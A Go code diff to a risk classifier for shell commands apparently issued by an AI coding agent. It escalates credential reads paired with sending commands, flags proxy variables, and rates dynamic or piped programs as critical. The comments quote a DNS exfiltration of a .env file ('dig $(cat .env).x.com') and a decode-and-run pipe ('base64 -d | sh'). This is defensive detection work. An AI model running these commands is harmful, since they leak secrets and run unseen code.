@@ -21,6 +21,19 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 		return
 	}
 	c.program(r, *in.Command, cwd)
+	// A credential read is file_read on its own; next to a command that writes, runs or
+	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
+	other := false
+	for _, p := range r.parts {
+		if p.risk.Value() >= risk.Medium.Value() && domainRank[p.domain] > domainRank[FileRead] {
+			other = true
+		}
+	}
+	for i := range r.parts {
+		if other && r.parts[i].reason.Rule == "credential_read" && r.parts[i].domain == FileRead {
+			r.parts[i].domain = ShellExec
+		}
+	}
 	if len(r.parts) == 0 {
 		r.add(risk.Low, ShellExec, "no_command", "", "the program runs no command (comments or assignments only)")
 	}
@@ -39,6 +52,10 @@ func (c *Classifier) program(r *result, src, cwd string) {
 		}
 	}
 	for _, n := range prog.Names {
+		if ln := strings.ToLower(n.Name); n.Assign && (ln == "http_proxy" || ln == "https_proxy" || ln == "all_proxy" || ln == "ftp_proxy" || ln == "socks_proxy") {
+			r.proxy = true
+			r.add(risk.High, ShellExec, "proxy_variable", n.Src, "sets "+n.Name+": network requests go through another machine")
+		}
 		if secretName(n.Name) {
 			verb := "reads"
 			if n.Assign {
@@ -164,7 +181,7 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 		}
 	}
 	if x.name == "" {
-		x.add(risk.High, ShellExec, "dynamic_command", "the command name cannot be known statically")
+		x.add(risk.Critical, ShellExec, "dynamic_command", "the command name cannot be known statically: it could be any program")
 		return
 	}
 	if cmd.Carrier {
@@ -196,7 +213,17 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 		}
 	}
 	if cmd.Stdin {
-		x.add(risk.High, ShellExec, "program_from_stdin", x.name+" reads its program from stdin (a pipe or the terminal): it cannot be analysed")
+		switch cmd.Input {
+		case "pipe":
+			// An unknown program (base64 -d | sh): as dangerous as an unknown command name.
+			x.add(risk.Critical, ShellExec, "program_from_stdin", x.name+" runs a program piped into it, which cannot be known statically")
+		case "file":
+			x.add(risk.Medium, ShellExec, "script", x.name+" runs a script file")
+		case "catfile":
+			x.add(risk.High, ShellExec, "program_from_stdin", x.name+" runs a script file piped into it (issue 2: a pipe into a shell is at least high)")
+		default:
+			x.add(risk.High, ShellExec, "program_from_stdin", x.name+" reads its program from stdin: it cannot be analysed")
+		}
 		return
 	}
 	if cmd.Code != nil {
